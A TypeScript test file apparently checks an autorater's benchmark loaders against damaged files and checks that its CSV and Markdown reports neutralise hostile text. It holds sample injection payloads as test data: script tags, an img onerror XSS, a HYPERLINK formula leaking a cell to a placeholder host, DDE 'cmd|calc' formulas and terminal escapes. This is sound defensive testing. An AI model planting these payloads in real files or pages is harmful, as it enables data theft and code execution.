/**
 * Hostile and damaged benchmark files: 1 MB fields, NUL bytes, invalid UTF-8, markup and spreadsheet formulas in
 * text, malformed records and files shorter than the pinned release. Each loader is driven with small files written
 * here in that loader's real format (parquet, JSON array, JSON Lines, CSV); a bad file must give one DataError naming
 * the file and the line (for parquet the row), never a crash, and hostile text that is valid data must come through
 * unchanged. The CSV and Markdown writers must neutralise formulas and markup. Nothing from the data folder is copied
 * into the repository: copies go to temporary folders.
 */
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { asyncBufferFromFile, parquetReadObjects } from 'hyparquet';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { describe, expect, it } from 'vitest';
import { readAggreFactFile, REBUILT_TEST_FILE, REBUILT_TEST_ROWS } from '../benchmarks/aggrefact/loader.ts';
import {
  ANNOTATORS,
  COBBLER_DIR,
  COBBLER_INSTRUCTIONS,
  EVALSET_PATH,
  RESPONSES_PATH,
  annotationPath,
  loadCobblerData,
} from '../benchmarks/cobbler/loader.ts';
import { jsonElementLines } from '../benchmarks/data-text.ts';
import {
  LLMBAR_DIR,
  LLMBAR_ROWS,
  LLMBAR_SUBSETS,
  LLMBAR_SUBSET_NAMES,
  loadLlmbar,
} from '../benchmarks/heldout/llmbar/loader.ts';
import {
  RANKGEN_DIR,
  RANKGEN_MODELS,
  RANKGEN_PATHS,
  RANKGEN_ROWS,
  loadRankgen,
} from '../benchmarks/heldout/rankgen/loader.ts';
import { NEWSROOM_CRITERIA } from '../benchmarks/pointwise/newsroom/index.ts';
import { NEWSROOM_FILE, NEWSROOM_INSTANCES, readNewsroomFile } from '../benchmarks/pointwise/newsroom/loader.ts';
import { SUBSET_SIZES, TOTAL_ITEMS } from '../benchmarks/rewardbench/constants.ts';
import { REWARDBENCH_FILES, readRewardBenchFile } from '../benchmarks/rewardbench/loader.ts';
import type { BenchmarkComparison } from '../harness/compare.ts';
import { DataError } from '../core/errors.ts';
import { renderComparisonCsv } from '../reports/compare.ts';
import { renderCsv } from '../reports/csv.ts';
import { renderMarkdownTable } from '../reports/markdown.ts';
import type { ReportTable } from '../core/table.ts';
import { DATA_DIR, runCli, tempDir, type CliResult } from './helpers.ts';

/** Hostile text that is still valid data: it must reach the judge unchanged. */
const SCRIPT = '</script><script>window.__pwned = 1</script>';
const FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")';
const BIG = `${'a'.repeat(1024 * 1024)} end of a 1 MB field`;
const NUL_CHAR = 'before\u0000after';
const SMALL = [SCRIPT, FORMULA, '+1+cmd|calc', '-2+3', '@SUM(1)', NUL_CHAR];
const HOSTILE = [...SMALL, BIG];
/** Record i's hostile text: the 1 MB field once per file (record 3), the small ones in turn. */
const hostile = (i: number): string => (i === 3 ? BIG : SMALL[i % SMALL.length]!);

const INVALID_UTF8 = Buffer.from([0xc3, 0x28, 0xff]); // a broken two-byte sequence, then a byte UTF-8 never uses

/** Cells as a spreadsheet reads them (the quoted/unquoted distinction matters, so tests check the raw text too). */
const cells = (csv: string): string[][] => parse(csv) as string[][];

async function failure(promise: Promise<unknown>): Promise<DataError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(DataError);
  return error as DataError;
}

function write(file: string, content: string | Uint8Array): string {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content);
  return file;
}

/** The bytes of `text` with `insert` placed right after the first occurrence of `marker`. */
function spliceAfter(text: string, marker: string, insert: Uint8Array): Buffer {
  const at = Buffer.byteLength(text.slice(0, text.indexOf(marker) + marker.length));
  const bytes = Buffer.from(text);
  return Buffer.concat([bytes.subarray(0, at), insert, bytes.subarray(at)]);
}

/** 1-based line of the first occurrence of `marker` in `text`. */
function lineOf(text: string, marker: string): number {
  return text.slice(0, text.indexOf(marker)).split('\n').length;
}

/** All five LLMBar subset files at their pinned sizes, pretty-printed as upstream, hostile text in every record. */
function llmbarSet(edit: (subset: string, rows: Record<string, unknown>[]) => void = () => {}): {
  dir: string;
  files: Record<string, string>;
} {
  const dir = tempDir('autorater-hostile-');
  const files: Record<string, string> = {};
  for (const subset of LLMBAR_SUBSET_NAMES) {
    const rows: Record<string, unknown>[] = Array.from({ length: LLMBAR_ROWS[subset] }, (_, i) => ({
      input: `${subset} question ${i}`,
      output_1: hostile(i),
      output_2: `plain answer ${i}`,
      label: 1 + (i % 2),
    }));
    edit(subset, rows);
    files[subset] = write(path.join(dir, LLMBAR_DIR, LLMBAR_SUBSETS[subset]), JSON.stringify(rows, null, 2));
  }
  return { dir, files };
}

describe('JSON arrays (LLMBar): every subset file at its pinned size, pretty-printed as upstream', () => {
  it('keeps 1 MB fields, markup, formulas and escaped NUL characters exactly as written', async () => {
    const { dir } = llmbarSet();
    const items = await loadLlmbar(dir);
    expect(items.items).toHaveLength(419);
    const texts = new Set(items.items.flatMap((i) => [i.first, i.second]));
    for (const text of HOSTILE) expect(texts.has(text)).toBe(true);
  });

  it('a malformed record: the file, the line the record starts on, and its row', async () => {
    const { dir, files } = llmbarSet((subset, rows) => {
      if (subset === 'GPTInst') rows[7] = { ...rows[7], label: 3 };
    });
    const text = fs.readFileSync(files.GPTInst!, 'utf8');
    // JSON.stringify(rows, null, 2) opens record k with the (k + 1)-th line holding just "  {".
    const opening = text.split('\n').flatMap((line, i) => (line === '  {' ? [i + 1] : []))[7]!;
    const error = await failure(loadLlmbar(dir));
    expect(error.message).toBe(
      `${files.GPTInst}: line ${opening} (row 7): field "label": Invalid option: expected one of 1|2`,
    );
  });

  it('invalid UTF-8 and raw NUL bytes are refused at their line, not decoded into replacement characters', async () => {
    const { dir, files } = llmbarSet();
    const text = fs.readFileSync(files.Manual!, 'utf8');
    const marker = '"plain answer 12';
    fs.writeFileSync(files.Manual!, spliceAfter(text, marker, INVALID_UTF8));
    expect((await failure(loadLlmbar(dir))).message).toBe(
      `${files.Manual}: line ${lineOf(text, marker)}: not valid UTF-8; the file is damaged or in another encoding ` +
        '(download it again, or convert it to UTF-8).',
    );

    const nul = llmbarSet();
    const natural = fs.readFileSync(nul.files.Natural!, 'utf8');
    fs.writeFileSync(nul.files.Natural!, spliceAfter(natural, '"Natural question 40', Buffer.from([0])));
    expect((await failure(loadLlmbar(nul.dir))).message).toBe(
      `${nul.files.Natural}: line ${lineOf(natural, '"Natural question 40')}: ` +
        'a NUL byte, which a text file never holds; the file is damaged or binary.',
    );
  });

  it('a syntax error is placed at its line and column', async () => {
    const { dir, files } = llmbarSet();
    const text = fs.readFileSync(files.Neighbor!, 'utf8');
    const marker = '"plain answer 30",';
    fs.writeFileSync(files.Neighbor!, text.replace(marker, '"plain answer 30" oops,'));
    const line = lineOf(text, marker);
    const column = text.split('\n')[line - 1]!.indexOf(marker) + '"plain answer 30" '.length + 1;
    expect((await failure(loadLlmbar(dir))).message).toContain(
      `${files.Neighbor}: not valid JSON at line ${line}, column ${column} (`,
    );
  });

  it('a subset file with fewer rows than the pinned release names the file and both counts', async () => {
    const { dir, files } = llmbarSet((subset, rows) => {
      if (subset === 'Natural') rows.pop();
    });
    expect((await failure(loadLlmbar(dir))).message).toBe(
      `${files.Natural}: 99 rows, fewer than the 100 of the pinned release; ` +
        'the file is truncated or another version. Download it again with: npm run data -- pull llmbar',
    );
  });

  it('finds the line of nested records (the locator behind the messages)', () => {
    const text = '{\n  "a": [1, {"b": "x[\\"]"}],\n  "items": [\n    {"k": [1,\n 2]},\n    "s",\n    3\n  ]\n}';
    expect(jsonElementLines(text, ['items'])).toEqual([4, 6, 7]);
    expect(jsonElementLines(text, ['items', 0, 'k'])).toEqual([4, 5]);
    expect(jsonElementLines('[{"x": 1}, {"x": 2}]')).toEqual([1, 1]);
  });
});

describe('CSV (RankGen): both files at their pinned size, with the real header', () => {
  const header = (rel: string): string[] =>
    (parse(fs.readFileSync(path.join(DATA_DIR, RANKGEN_DIR, rel)), { to_line: 1 }) as string[][])[0]!;

  function rankgenSet(edit: (k: number, rows: Record<string, string>[]) => void = () => {}): {
    dir: string;
    files: string[];
  } {
    const dir = tempDir('autorater-hostile-');
    const files = RANKGEN_PATHS.map((rel, k) => {
      const rows = Array.from({ length: RANKGEN_ROWS[k]! }, (_, i) => ({
        HITId: `HIT-${k}-${i}`,
        'Input.Prefix': hostile(i).replaceAll('\u0000', ''),
        'Input.First': `first\ncontinuation ${i}`,
        'Input.Second': FORMULA,
        'Input.Order': i % 2 ? 'beam,nucleus' : 'nucleus,beam',
        'Input.Dataset': 'pg19',
        'Input.Model': RANKGEN_MODELS[k]!,
        'Answer.utterance': i % 3 ? 'Text 1 reads better.' : 'text 2, clearly',
      }));
      edit(k, rows);
      const columns = header(rel);
      return write(
        path.join(dir, RANKGEN_DIR, rel),
        stringify([columns, ...rows.map((r) => columns.map((c) => (r as Record<string, string>)[c] ?? ''))]),
      );
    });
    return { dir, files };
  }

  it('reads formulas, markup and 1 MB fields as text', async () => {
    const { dir } = rankgenSet();
    const set = await loadRankgen(dir);
    expect(set.items).toHaveLength(309 + 300);
    expect(set.items.some((i) => i.context === BIG)).toBe(true);
    expect(set.items.every((i) => i.second === FORMULA)).toBe(true);
  });

  it('invalid UTF-8 and NUL bytes: the file and line', async () => {
    const { dir, files } = rankgenSet();
    const text = fs.readFileSync(files[1]!, 'utf8');
    fs.writeFileSync(files[1]!, spliceAfter(text, 'HIT-1-20,', INVALID_UTF8));
    expect((await failure(loadRankgen(dir))).message).toMatch(
      new RegExp(`^${files[1]}: line ${lineOf(text, 'HIT-1-20,')}: not valid UTF-8`),
    );

    const nul = rankgenSet();
    const first = fs.readFileSync(nul.files[0]!, 'utf8');
    fs.writeFileSync(nul.files[0]!, spliceAfter(first, 'HIT-0-5,', Buffer.from([0])));
    expect((await failure(loadRankgen(nul.dir))).message).toMatch(
      new RegExp(`^${nul.files[0]}: line ${lineOf(first, 'HIT-0-5,')}: a NUL byte`),
    );
  });

  it('a short file names both counts; a malformed row is reported first, at its line', async () => {
    const short = rankgenSet((k, rows) => {
      if (k === 0) rows.splice(100, 9);
    });
    expect((await failure(loadRankgen(short.dir))).message).toContain(
      `${short.files[0]}: 300 rows, fewer than the 309 of the pinned release`,
    );

    const both = rankgenSet((k, rows) => {
      if (k === 0) rows.splice(100, 9);
      if (k === 1) rows[4]!['Input.Order'] = 'beam';
    });
    // Line 1 is the header and each record spans two lines ("first\ncontinuation"): row 4 starts on line 10.
    expect((await failure(loadRankgen(both.dir))).message).toMatch(
      new RegExp(`^${both.files[1]}: line 10 \\(row 4\\): field "Input\\.Order"`),
    );
  });
});

describe('JSON Lines (the AggreFact rebuild) at its pinned size', () => {
  function rebuilt(rows: number, edit: (lines: string[]) => void = () => {}): { dir: string; file: string } {
    const dir = tempDir('autorater-hostile-');
    const lines = Array.from({ length: rows }, (_, i) =>
      JSON.stringify({ dataset: 'Wice', doc: hostile(i), claim: `claim ${i} ${SCRIPT}`, label: i % 2 }),
    );
    edit(lines);
    return { dir, file: write(path.join(dir, REBUILT_TEST_FILE), lines.join('\n') + '\n') };
  }

  it('keeps hostile text; refuses invalid UTF-8 at its line; a short file names both counts', async () => {
    const good = rebuilt(REBUILT_TEST_ROWS);
    const items = await readAggreFactFile(good.dir, REBUILT_TEST_FILE, 'test');
    expect(items).toHaveLength(REBUILT_TEST_ROWS);
    expect(items.map((i) => i.doc)).toEqual(expect.arrayContaining(HOSTILE));

    const bad = rebuilt(REBUILT_TEST_ROWS);
    const text = fs.readFileSync(bad.file, 'utf8');
    fs.writeFileSync(bad.file, spliceAfter(text, '"claim 4321 ', INVALID_UTF8));
    expect((await failure(readAggreFactFile(bad.dir, REBUILT_TEST_FILE, 'test'))).message).toMatch(
      new RegExp(`^${bad.file}: line 4322: not valid UTF-8`),
    );

    const short = rebuilt(REBUILT_TEST_ROWS - 1);
    expect((await failure(readAggreFactFile(short.dir, REBUILT_TEST_FILE, 'test'))).message).toBe(
      `${short.file}: 7,307 rows, fewer than the 7,308 of the pinned release; ` +
        'the file is truncated or another version.',
    );
  });

  it('a value from the file is quoted, cut short and stripped of terminal control characters', async () => {
    const { dir, file } = rebuilt(20, (lines) => {
      lines[6] = JSON.stringify({
        dataset: `\u001b[2J\u001b]0;owned\u0007${'x'.repeat(5000)}`,
        doc: 'd',
        claim: 'c',
        label: 1,
      });
    });
    const message = (await failure(readAggreFactFile(dir, REBUILT_TEST_FILE, 'test'))).message;
    expect(message).toMatch(new RegExp(`^${file}: line 7: unknown dataset "\\\\u001b\\[2J`));
    // biome-ignore lint/suspicious/noControlCharactersInRegex: asserts no control character reaches the message
    expect(message).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    expect(message).toContain('(5,014 characters)');
    expect(message.length).toBeLessThan(600);
  });
});

describe('parquet (RewardBench): 2,985 rows in the official layout', () => {
  type Row = {
    prompt: string;
    chosen: string;
    rejected: string;
    chosen_model: string;
    rejected_model: string;
    subset: string;
    id: bigint;
  };

  function rows(): Row[] {
    let id = 0;
    return Object.entries(SUBSET_SIZES).flatMap(([subset, size]) =>
      Array.from({ length: size }, (_, i) => ({
        prompt: hostile(id),
        chosen: `chosen ${SCRIPT} ${i}`,
        rejected: FORMULA,
        chosen_model: 'm1',
        rejected_model: 'm2',
        subset,
        id: BigInt(id++),
      })),
    );
  }

  /** Writes `data` as the official parquet file; a Uint8Array in the chosen column is stored as raw bytes. */
  function writeRewardBench(data: (Omit<Row, 'chosen'> & { chosen: string | Uint8Array })[]): {
    dir: string;
    file: string;
  } {
    const dir = tempDir('autorater-hostile-');
    const column = <K extends keyof Row>(name: K, type: 'STRING' | 'INT64' | 'BYTE_ARRAY') => ({
      name,
      type,
      data: data.map((r) => (type === 'BYTE_ARRAY' && typeof r[name] === 'string' ? Buffer.from(r[name]) : r[name])),
    });
    const columnData = [
      column('prompt', 'STRING'),
      column('chosen', 'BYTE_ARRAY'),
      column('rejected', 'STRING'),
      column('chosen_model', 'STRING'),
      column('rejected_model', 'STRING'),
      column('subset', 'STRING'),
      column('id', 'INT64'),
    ];
    const file = write(
      path.join(dir, REWARDBENCH_FILES[0]),
      Buffer.from(parquetWriteBuffer({ columnData } as Parameters<typeof parquetWriteBuffer>[0])),
    );
    return { dir, file };
  }

  it('hostile strings read unchanged; invalid UTF-8: row and column; a short file: both counts', async () => {
    const good = writeRewardBench(rows());
    const items = await readRewardBenchFile(good.file);
    expect(items).toHaveLength(TOTAL_ITEMS);
    expect(items.map((i) => i.prompt)).toEqual(expect.arrayContaining(HOSTILE));
    expect(items[5]!.chosen).toBe(`chosen ${SCRIPT} 5`);

    const broken = rows() as (Row | (Omit<Row, 'chosen'> & { chosen: Uint8Array }))[];
    broken[1234] = { ...broken[1234]!, chosen: Buffer.concat([Buffer.from('ok '), INVALID_UTF8]) };
    const bad = writeRewardBench(broken);
    expect((await failure(readRewardBenchFile(bad.file))).message).toBe(
      `${bad.file}: row 1234, column "chosen": not valid UTF-8; the file is damaged (download it again).`,
    );

    const short = writeRewardBench(rows().slice(0, 2000));
    expect((await failure(readRewardBenchFile(short.file))).message).toBe(
      `${short.file}: 2,000 rows, fewer than the 2,985 of the pinned release; ` +
        'the file is truncated or another version. Download it again with: npm run data -- pull rewardbench',
    );
  });
});

describe('the real files, copied and damaged', () => {
  it('Newsroom: one instance missing is an error naming both counts; invalid UTF-8 is found at its line', async () => {
    const json = JSON.parse(fs.readFileSync(path.join(DATA_DIR, NEWSROOM_FILE), 'utf8')) as { instances: unknown[] };
    json.instances.pop();
    const short = write(path.join(tempDir('autorater-hostile-'), 'newsroom.json'), JSON.stringify(json, null, 2));
    expect((await failure(readNewsroomFile(short, NEWSROOM_CRITERIA))).message).toBe(
      `${short}: 419 instances, fewer than the ${NEWSROOM_INSTANCES} of the pinned release; the file is truncated or ` +
        'another version. Download it again with: npm run data -- pull newsroom',
    );

    const text = fs.readFileSync(path.join(DATA_DIR, NEWSROOM_FILE), 'utf8');
    const marker = '"id": 200';
    const damaged = write(
      path.join(tempDir('autorater-hostile-'), 'newsroom.json'),
      spliceAfter(text, marker, INVALID_UTF8),
    );
    expect((await failure(readNewsroomFile(damaged, NEWSROOM_CRITERIA))).message).toMatch(
      new RegExp(`^${damaged}: line ${lineOf(text, marker)}: not valid UTF-8`),
    );
  });

  it('CoBBLEr: a short evalset names both counts before the other files are compared with it', async () => {
    const dir = tempDir('autorater-hostile-');
    for (const rel of [EVALSET_PATH, RESPONSES_PATH, ...ANNOTATORS.map(annotationPath)]) {
      const target = path.join(dir, COBBLER_DIR, rel);
      fs.mkdirSync(path.dirname(target), { recursive: true });
      fs.copyFileSync(path.join(DATA_DIR, COBBLER_DIR, rel), target);
      fs.chmodSync(target, 0o644);
    }
    const evalset = path.join(dir, COBBLER_DIR, EVALSET_PATH);
    fs.writeFileSync(evalset, JSON.stringify((JSON.parse(fs.readFileSync(evalset, 'utf8')) as unknown[]).slice(0, 49)));
    expect((await failure(loadCobblerData(dir))).message).toBe(
      `${evalset}: 49 instructions, fewer than the ${COBBLER_INSTRUCTIONS} of the pinned release; ` +
        'the file is truncated or another version. Download it again with: npm run data -- pull cobbler',
    );
  });
});

describe('through the CLI: exit 3 and one line naming the file, no stack trace', () => {
  function expectOneLine(result: CliResult, ...parts: string[]): void {
    expect(result.code, result.stderr).toBe(3);
    // The CLI may print a status line about the judge first; the error itself is one "autorater: " line.
    const lines = result.stderr
      .trim()
      .split('\n')
      .filter((line) => line.startsWith('autorater: '));
    expect(lines, result.stderr).toHaveLength(1);
    for (const part of parts) expect(lines[0]).toContain(part);
    expect(result.stderr).not.toMatch(/\bat .*\.(ts|js|mjs):\d+/);
  }

  function evalArgs(dir: string, benchmark: string): string[] {
    return [
      'eval',
      '--judge',
      'longer-wins',
      '--benchmark',
      benchmark,
      '--data',
      dir,
      '--store',
      path.join(dir, 'runs.sqlite'),
      '--no-progress',
    ];
  }

  it('a truncated RewardBench file', async () => {
    const dir = tempDir('autorater-hostile-');
    const source = path.join(DATA_DIR, REWARDBENCH_FILES[1]);
    const all = (await parquetReadObjects({ file: await asyncBufferFromFile(source) })) as Record<string, unknown>[];
    const kept = all.slice(0, 2900);
    const column = (name: string, type: 'STRING' | 'INT64') => ({
      name,
      type,
      data: kept.map((r) => (type === 'INT64' ? BigInt(r[name] as number | bigint) : String(r[name]))),
    });
    const names = ['question', 'response_A', 'response_B', 'chosen_model', 'rejected_model', 'subset'];
    const columnData = [...names.map((n) => column(n, 'STRING')), column('id', 'INT64'), column('label', 'INT64')];
    const file = write(path.join(dir, REWARDBENCH_FILES[1]), Buffer.from(parquetWriteBuffer({ columnData })));
    const result = await runCli(evalArgs(dir, 'rewardbench'));
    expectOneLine(result, `${file}: 2,900 rows, fewer than the 2,985 of the pinned release`);
  });

  it('hostile but valid data runs to the end: 1 MB fields, NUL characters, markup and formulas', async () => {
    const { dir } = llmbarSet();
    const out = path.join(dir, 'out');
    const result = await runCli([...evalArgs(dir, 'llmbar'), '--out', out, '--resamples', '0']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).not.toMatch(/\bat .*\.(ts|js|mjs):\d+/);
    const predictions = fs.readFileSync(path.join(out, 'predictions.jsonl'), 'utf8').trim().split('\n');
    expect(predictions).toHaveLength(419);
    expect(cells(fs.readFileSync(path.join(out, 'llmbar.csv'), 'utf8'))[1]![0]).toBe('longer-wins');
    expect(fs.readFileSync(path.join(out, 'report.md'), 'utf8')).not.toMatch(/<\/?script/i);
  });

  it('a real LLMBar file with a NUL byte, and one with invalid UTF-8', async () => {
    const dir = tempDir('autorater-hostile-');
    for (const subset of LLMBAR_SUBSET_NAMES) {
      const rel = path.join(LLMBAR_DIR, LLMBAR_SUBSETS[subset]);
      write(path.join(dir, rel), fs.readFileSync(path.join(DATA_DIR, rel)));
    }
    const file = path.join(dir, LLMBAR_DIR, LLMBAR_SUBSETS.GPTOut);
    const text = fs.readFileSync(file, 'utf8');
    const marker = text.split('\n')[40]!;
    fs.writeFileSync(file, spliceAfter(text, marker, INVALID_UTF8));
    expectOneLine(await runCli(evalArgs(dir, 'llmbar')), `${file}: line ${lineOf(text, marker)}: not valid UTF-8`);

    fs.writeFileSync(file, spliceAfter(text, marker, Buffer.from([0])));
    expectOneLine(await runCli(evalArgs(dir, 'llmbar')), `${file}: line ${lineOf(text, marker)}: a NUL byte`);
  });
});

describe('outputs: CSV safe to open in a spreadsheet, Markdown without live markup', () => {
  const table: ReportTable = {
    id: 't',
    title: `Hostile ${SCRIPT}`,
    columns: ['Accuracy', '=SUM(A1:A9)', '-cmd'],
    rows: [
      { label: FORMULA, source: 'this run', values: [-0.5, 12.25, null], intervals: [[-1.5, 0.5], null, null] },
      { label: '@import', source: 'paper', citation: '+1+cmd|calc', values: [-3, 0, 1] },
      { label: '<img src=x onerror=alert(1)>', source: 'baseline', values: [1, 2, 3] },
    ],
    notes: [`aggrefact skipped: ${SCRIPT}`],
  };

  it('renderCsv: text starting with = + - @ gets a leading quote; negative numbers stay plain numbers', () => {
    const csv = renderCsv(table);
    const [header, first, second] = cells(csv);
    expect(header).toEqual(expect.arrayContaining(["'=SUM(A1:A9)", "'-cmd", "'=SUM(A1:A9) ci_low"]));
    expect(first!.slice(0, 4)).toEqual([`'${FORMULA}`, 'this run', '', '-0.5']);
    expect(second!.slice(0, 4)).toEqual(["'@import", 'paper', "'+1+cmd|calc", '-3']);
    expect(csv.split('\n')[1]).toMatch(/,-0\.5,12\.25,,-1\.5,0\.5,/);
    // No cell a spreadsheet would evaluate: every cell starting with a formula character is a number.
    for (const cell of cells(csv).flat())
      if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
  });

  it('renderComparisonCsv: hostile judge ids and categories neutralised; differences such as -0.5 stay numbers', () => {
    const comparison = {
      benchmark: 'hhh',
      candidate: '=cmd|" /C calc"!A0',
      baseline: '@baseline',
      compared: 10,
      categories: [
        {
          category: '-harmless',
          candidate: 0.5,
          baseline: 1,
          difference: -0.5,
          ci: [-0.9, -0.1],
          test: 'mcnemar',
          p: 0.03,
          pHolm: 0.06,
          verdict: 'loss',
        },
      ],
    } as unknown as BenchmarkComparison;
    const csv = renderComparisonCsv([comparison]);
    const row = cells(csv)[1]!;
    expect(row.slice(0, 5)).toEqual(['hhh', `'=cmd|" /C calc"!A0`, "'@baseline", '10', "'-harmless"]);
    expect(row.slice(5, 10)).toEqual(['0.5', '1', '-0.5', '-0.9', '-0.1']);
    expect(csv.split('\n')[1]).toContain(',0.5,1,-0.5,-0.9,-0.1,');
  });

  it('Markdown: markup from judge ids, titles and notes is shown as text, never as live HTML', () => {
    const md = renderMarkdownTable(table);
    expect(md).not.toMatch(/<(img|script|\/script)/i);
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(md).toContain('&lt;/script&gt;&lt;script&gt;window.__pwned = 1&lt;/script&gt;');
  });
});
